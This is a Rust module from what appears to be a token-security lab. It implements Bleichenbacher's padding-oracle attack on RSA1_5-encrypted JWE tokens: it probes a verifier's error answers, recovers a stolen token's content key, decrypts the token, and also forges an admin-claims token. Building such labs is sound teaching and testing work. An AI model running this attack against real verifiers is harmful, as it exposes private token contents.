//! Bleichenbacher's attack: a verifier that says whether what it decrypted had
//! the right form decrypts for anyone who asks often enough.
//!
//! The flawed assumption: an error message helps the honest and tells the
//! others nothing. RSA is multiplicative: c·s^e decrypts to m·s. Each s for
//! which the verifier says that the result begins with 00 02 puts m·s mod n
//! between 2B and 3B, where B is 2 to the power of eight times the length less
//! two, and enough such facts leave one m (Bleichenbacher, CRYPTO '98).
//! RFC 7516 §11.5 has the verifier go on with a random key instead; RFC 8725
//! §3.2 advises against RSA1_5. Bitten: Authlib (CVE-2026-28490), and others
//! whose answers differed.
//!
//! The attack starts with two tokens of its own, one well padded and one not.
//! If they are answered alike there is nothing to ask.

use rsa::BigUint;
use rsa::traits::PublicKeyParts;
use serde_json::Map;
use tokenlab_harness::Rejection;
use tokenlab_harness::exchange::PublicKey;
use tokenlab_record::catalogue::AttackClass;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::given::Given;
use crate::jwe::{self, Recipient, Sealed};
use crate::mint;
use crate::notebook::Notebook;
use crate::scheme::{KeyManagement, Scheme};
use crate::weakness::Weakness;

pub(super) struct JweRsa15Oracle;

static PROFILE: AttackProfile = AttackProfile {
    id: "jwe-rsa15-oracle",
    title: "Padding oracle on RSA1_5",
    assumption: "An error message helps the honest and tells the others nothing.",
    class: AttackClass::Encryption,
    given: &[Given::StolenToken, Given::Answers],
    isolated: false,
    breaks: &[Weakness::PaddingOracle],
    references: &[
        (
            "RFC 7516 §11.5",
            "Every failure to decrypt a key is answered like a failure of the tag, by going on with a random key.",
        ),
        (
            "RFC 8725 §3.2",
            "Avoid RSA-PKCS1 v1.5 encryption, and prefer OAEP.",
        ),
        (
            "RFC 8017 §7.2",
            "RSAES-PKCS1-v1_5 is for existing applications only, because of this attack.",
        ),
        (
            "CVE-2026-28490",
            "PyPI Authlib before 1.6.9 answers a bad length of the key in its own way; fixed in 1.6.9.",
        ),
        (
            "GHSA-5739-39v2-5754",
            "PHP web-token/jwt-framework before 3.4.10 has a padding oracle in RSA1_5; fixed in 3.4.10.",
        ),
    ],
    lesson: include_str!("../../lessons/jwe-rsa15-oracle.md"),
};

impl Attack for JweRsa15Oracle {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let why = match (view.scheme(), view.public_key()) {
            (Scheme::Jwe(KeyManagement::Rsa15, _), Some(PublicKey::Rsa(public))) => {
                return ask_away(view, public, notes).map(|forgery| vec![forgery]);
            }
            (Scheme::Jwe(alg, _), _) if alg.is_public() => {
                "the content key is not padded by PKCS #1 v1.5, and this way of wrapping it has no such form"
            }
            (Scheme::Jwe(..), _) => "the content key is wrapped with a shared key, if at all",
            (Scheme::Paseto(..), _) => {
                "no version of PASETO encrypts with RSA; PKCS #1 v1.5 is ruled out for all of them"
            }
            _ => "nothing is decrypted, so nothing can be said about it",
        };
        let variant = "rsa15-in-its-place";
        let public = issuers_rsa_key(view)?;
        let payload = mint::jwt_payload(view.wanted())?;
        let recipient = Recipient::Rsa15(Box::new(public));
        let token = jwe::seal(&recipient, &Map::new(), payload.as_bytes())?;
        notes.variant_step(
            variant,
            "Encrypts claims in which the subject is admin by RSA1_5 to the RSA key that the issuer publishes.",
            token.as_str(),
        );
        Err(CannotForge::Inexpressible {
            why: why.into(),
            tried: vec![Forgery::analogue(
                variant,
                token,
                "a token by RSA1_5 is sent in case it is understood, which would be the start of an oracle",
            )],
        })
    }
}

/// Asks until the stolen token's content key is known, or until it is clear
/// that the answers tell nothing.
fn ask_away(
    view: &AttackerView<'_>,
    public: &rsa::RsaPublicKey,
    notes: &mut Notebook,
) -> Result<Forgery, CannotForge> {
    let stolen = view.stolen_token()?;
    notes.step(
        "Copies a token of the victim's, which she can't read.",
        stolen.as_str(),
    );
    let Some(oracle) = Oracle::listen(view, &stolen, public)? else {
        notes.step(
            "Sends it with an encrypted key that is badly padded, and with one that is not: both are answered alike.",
            "",
        );
        let altered = with_key(&stolen, &encoded(&BigUint::from(1u8), public.size()))
            .ok_or_else(|| CannotForge::Failed("the stolen token has no second part".into()))?;
        return Ok(Forgery::new("altered-key", altered));
    };
    let failed = || CannotForge::Failed("the answers contradict each other".into());
    let part = |index| stolen.split('.').nth(index).unwrap_or_default();
    let decode = |index| URL_SAFE_NO_PAD.decode(part(index)).unwrap_or_default();
    let wrapped = decode(1);
    let block = decrypted(&oracle, &BigUint::from_bytes_be(&wrapped))?.ok_or_else(failed)?;
    let block = bytes(&block, public.size());
    let end = block
        .iter()
        .skip(2)
        .position(|byte| *byte == 0)
        .ok_or_else(failed)?;
    let content_key: Vec<u8> = block.into_iter().skip(2 + end + 1).collect();
    let sealed = Sealed {
        header: part(0),
        wrapped: &wrapped,
        nonce: &decode(2),
        ciphertext: &decode(3),
        tag: &decode(4),
    };
    let inside = jwe::open_content(&content_key, &sealed).ok_or_else(failed)?;
    notes.step(
        format!(
            "Sends it {} times with altered encrypted keys, and notes which of them are called badly padded: \
             one content key is left.",
            view.questions()
        ),
        mint::hexadecimal(&content_key),
    );
    notes.step(
        "Decrypts the victim's token with it.",
        String::from_utf8_lossy(&inside),
    );
    let last = with_key(&stolen, &encoded(&BigUint::from(1u8), public.size())).ok_or_else(failed)?;
    Ok(Forgery::new("content-key-read", last).with_leak(
        "the content key of the victim's token, and with it what the token says: read from which altered keys \
         were answered as badly padded",
    ))
}

/// Somebody who says whether a number decrypts to something that begins with
/// 00 02.
struct Oracle<'a> {
    view: &'a AttackerView<'a>,
    stolen: &'a str,
    n: BigUint,
    e: BigUint,
    size: usize,
    /// What it says when it does not.
    badly_padded: Option<Rejection>,
}

impl<'a> Oracle<'a> {
    /// `None` if the answers to what is well padded and what is not are alike.
    fn listen(
        view: &'a AttackerView<'a>,
        stolen: &'a str,
        public: &rsa::RsaPublicKey,
    ) -> Result<Option<Self>, CannotForge> {
        let mut oracle = Self {
            view,
            stolen,
            n: public.n().clone(),
            e: public.e().clone(),
            size: public.size(),
            badly_padded: None,
        };
        // One decrypts to 1, the other to 00 02 and too much that is no zero.
        let padded = BigUint::from_bytes_be(&[vec![0, 2], vec![1; oracle.size.saturating_sub(2)]].concat());
        oracle.badly_padded = oracle.answer(&BigUint::from(1u8))?;
        let well_padded = oracle.answer(&padded.modpow(&oracle.e, &oracle.n))?;
        Ok((well_padded != oracle.badly_padded).then_some(oracle))
    }

    fn answer(&self, number: &BigUint) -> Result<Option<Rejection>, CannotForge> {
        let token = with_key(self.stolen, &encoded(number, self.size))
            .ok_or_else(|| CannotForge::Failed("the stolen token has no second part".into()))?;
        Ok(self.view.ask(&token)?.refused)
    }

    fn is_well_padded(&self, number: &BigUint) -> Result<bool, CannotForge> {
        Ok(self.answer(number)? != self.badly_padded)
    }
}

/// Bleichenbacher's steps 2 to 4. Step 1, blinding, is not needed: what was
/// stolen is well padded.
fn decrypted(oracle: &Oracle<'_>, ciphertext: &BigUint) -> Result<Option<BigUint>, CannotForge> {
    let one = BigUint::from(1u8);
    let (n, unit) = (&oracle.n, &one << (8 * oracle.size.saturating_sub(2)));
    let (low, high) = (&unit * 2u8, &unit * 3u8 - &one);
    let fits = |s: &BigUint| oracle.is_well_padded(&(ciphertext * s.modpow(&oracle.e, n) % n));
    let mut left = vec![(low.clone(), high.clone())];
    let mut s = over(n, &(&high + &one));
    while !fits(&s)? {
        s += &one;
    }
    loop {
        left = narrowed(&left, &s, n, &low, &high);
        match left.as_slice() {
            [] => return Ok(None),
            [(from, to)] if from == to => return Ok(Some(from.clone())),
            [(from, to)] => {
                let mut rounds = over(&((to * &s - &low) * 2u8), n);
                s = 'found: loop {
                    let mut candidate = over(&(&low + &rounds * n), to);
                    let last = (&high + &rounds * n) / from;
                    while candidate <= last {
                        if fits(&candidate)? {
                            break 'found candidate;
                        }
                        candidate += &one;
                    }
                    rounds += &one;
                };
            }
            _ => {
                s += &one;
                while !fits(&s)? {
                    s += &one;
                }
            }
        }
    }
}

/// What is left of the intervals once it is known that m·s mod n lies between
/// `low` and `high`.
fn narrowed(
    intervals: &[(BigUint, BigUint)],
    s: &BigUint,
    n: &BigUint,
    low: &BigUint,
    high: &BigUint,
) -> Vec<(BigUint, BigUint)> {
    let one = BigUint::from(1u8);
    let mut left: Vec<(BigUint, BigUint)> = Vec::new();
    for (from, to) in intervals {
        let mut rounds = over(&(from * s - high), n);
        let last = (to * s - low) / n;
        while rounds <= last {
            let start = over(&(low + &rounds * n), s).max(from.clone());
            let end = ((high + &rounds * n) / s).min(to.clone());
            if start <= end && !left.contains(&(start.clone(), end.clone())) {
                left.push((start, end));
            }
            rounds += &one;
        }
    }
    left
}

/// Divides and rounds up.
fn over(number: &BigUint, by: &BigUint) -> BigUint {
    (number + by - BigUint::from(1u8)) / by
}

/// Big-endian, as long as the modulus.
fn bytes(number: &BigUint, size: usize) -> Vec<u8> {
    let digits = number.to_bytes_be();
    let zeros = size.saturating_sub(digits.len());
    std::iter::repeat_n(0, zeros).chain(digits).collect()
}

fn encoded(number: &BigUint, size: usize) -> String {
    mint::part(bytes(number, size))
}

/// The token with another encrypted key.
fn with_key(token: &str, key: &str) -> Option<String> {
    let mut parts: Vec<&str> = token.split('.').collect();
    *parts.get_mut(1)? = key;
    Some(parts.join("."))
}

fn issuers_rsa_key(view: &AttackerView<'_>) -> Result<rsa::RsaPublicKey, CannotForge> {
    use rsa::pkcs8::DecodePublicKey;
    rsa::RsaPublicKey::from_public_key_pem(&view.issuer().rsa_pem)
        .map_err(|error| CannotForge::Failed(error.to_string()))
}
